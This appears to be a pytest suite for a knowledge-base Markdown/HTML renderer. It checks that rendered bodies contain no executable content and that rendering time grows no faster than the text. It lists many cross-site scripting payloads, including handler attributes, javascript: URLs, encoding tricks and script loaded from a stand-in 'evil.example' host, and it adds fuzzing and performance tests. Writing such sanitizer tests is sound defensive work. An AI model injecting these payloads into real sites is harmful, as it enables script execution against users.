"""Whatever a body holds, nothing of it runs, and rendering it ends."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.rendering import BodyLinks, MediaFile, render_body, sections
from kb.rendering.allowlist import ALLOWED_TAGS

LINKS = BodyLinks(articles={1: "/en/articles/a/"}, media={"k": MediaFile("/media/k/a.png", 1, 1)})
SAFE_ADDRESS = re.compile(r"(?:https?://|mailto:|tel:|/(?![/\s])|#)", re.IGNORECASE)
ALLOWED_ATTRIBUTES = frozenset(
    """
    alt aria-hidden aria-label checked class colspan data-language datetime decoding dir disabled height href
    id lang loading open rel reversed role rowspan scope span src start tabindex title type value width
    """.split()  # noqa: SIM905
)

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x`y" onerror=`alert(1)`>',
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    '<input type="image" src="x" onerror="alert(1)">',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    '<base href="javascript:/a/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<style>@import "//evil.example/x.css";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://a.example/1">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="/&#9;/evil.example/">x</a>',
    '<a href="/&#10;/evil.example/">x</a>',
    '<a href="https://a.example" onclick="alert(1)" target="_blank" ping="//evil.example">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](media:k)',
    '![x](media:k "t\\" onerror=alert(1)")',
    '[x](article:1#"onclick="alert(1))',
    "[x](article:1#javascript:alert(1))",
    "## <img src=x onerror=alert(1)>",
    '## x" onmouseover="alert(1)',
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx\n```',
    '<pre><code class="language-html onclick=alert(1)">x</code></pre>',
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><option><script>alert(1)</script></select>",
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<a id="x" name="getElementById">x</a><form id="document">',
    '<div id="location" class="button primary" data-confirm hx-get="/x" hx-on:click="alert(1)">x</div>',
    '<p slot="x" is="y" accesskey="x" contenteditable autofocus tabindex="1">x</p>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ſcript>alert(1)</ſcript>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "> [!NOTE]<script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS and tag != "input":
            self.problems.append(f"<{tag}>")
        names = {name for name, _ in attrs}
        self.problems += sorted(names - ALLOWED_ATTRIBUTES)
        for name, value in attrs:
            if name in {"href", "src"} and not SAFE_ADDRESS.match(value or ""):
                self.problems.append(f"{name}={value}")
        if tag == "input" and (("type", "checkbox") not in attrs or "disabled" not in names):
            self.problems.append("a control")


def problems_of(html: str) -> list[str]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.problems


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_it_runs(vector: str):
    for body in (vector, f"Text {vector} text", f"- {vector}\n\n> {vector}", f"| a |\n|---|\n| {vector} |"):
        assert problems_of(render_body(body, links=LINKS).html) == []
        sections(body)


def test_classes_of_the_interface_cannot_be_borrowed():
    html = render_body('<div class="button primary code-block">x</div>', links=LINKS).html
    assert html == '<div class="code-block">x</div>'


def test_ids_of_the_page_cannot_be_taken():
    html = render_body(
        '<span id="main">a</span><span id="feedback">b</span><i id="page-x">c</i>', links=LINKS
    ).html
    assert re.findall(r'\sid="([^"]*)"', html) == ["main-section", "feedback-section"]


FRAGMENTS = st.sampled_from(
    [
        "<", ">", '"', "'", "`", "&", "[", "]", "(", ")", "!", "#", "|", "*", "_", "~", "-", ":", "=", "\n", "\n\n",
        "    ", "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "<a href=", "<svg>", "<math>",
        "<style>", "</p>", "<table>", "<td>", "<b>", "</b>", "<!--", "-->", "<![CDATA[", "onclick=", "&#x6a;", "\x00",
        "## ", "> [!NOTE]\n> ", "```\n", "[^1]", "[^1]: ", "media:k", "article:1", "<div id=a>", "<h2 id='a'>", "é🚲",
    ]
)  # fmt: skip
BODIES = st.one_of(
    st.text(max_size=300), st.lists(st.one_of(FRAGMENTS, st.text(max_size=8)), max_size=60).map("".join)
)


@given(BODIES)
@settings(max_examples=300, deadline=None)
def test_no_text_breaks_it_and_none_gets_through(body: str):
    page = render_body(body, links=LINKS)
    assert problems_of(page.html) == []
    assert render_body(body, links=LINKS) == page
    sections(body)


SIZE = 24_000
PATTERNS = [
    "[", "![", "[x](", "[[]", "](", "> ", ">\n", "`", "`a", "*a **b ", "**a", "_a ", "~~a", "<", "<a ", "<!--", "<?",
    "<div>", "<b>", "<b id=x><p>", "</div>", "<a href=x>", "<table><td>", '<a "', "<a '", "<script>", "<svg>", "&#x6a;",
    "http://a.b/(", "a@b.c ", "|a", "|a|\n|-|\n", "- ", "1. ", "[^1]", "^[", "[a]: b\n", "# a\n",
    ": a\n", "\\", "- [ ] a\n",
]  # fmt: skip


@pytest.mark.parametrize("pattern", PATTERNS)
def test_time_grows_no_faster_than_the_text(pattern: str):
    small, large = (_seconds(pattern * (size // len(pattern))) for size in (SIZE // 4, SIZE))
    # Four times the text: sixteen times the time would be quadratic. The rest is noise of a busy machine.
    assert large < max(10 * small, 0.8)


@pytest.mark.slow
@pytest.mark.parametrize("pattern", ["[", "> ", "`", "<div>"])
def test_a_megabyte_ends(pattern: str):
    assert _seconds(pattern * (1_000_000 // len(pattern))) < 60


def test_deep_nesting_is_cut_and_not_lost():
    assert "core" in render_body("<div>" * 5000 + "core", links=LINKS).html
    assert "core" in render_body("**" * 3000 + "core" + "**" * 3000, links=LINKS).html


def _seconds(body: str) -> float:
    start = time.process_time()
    render_body(body, links=LINKS)
    sections(body)
    return time.process_time() - start
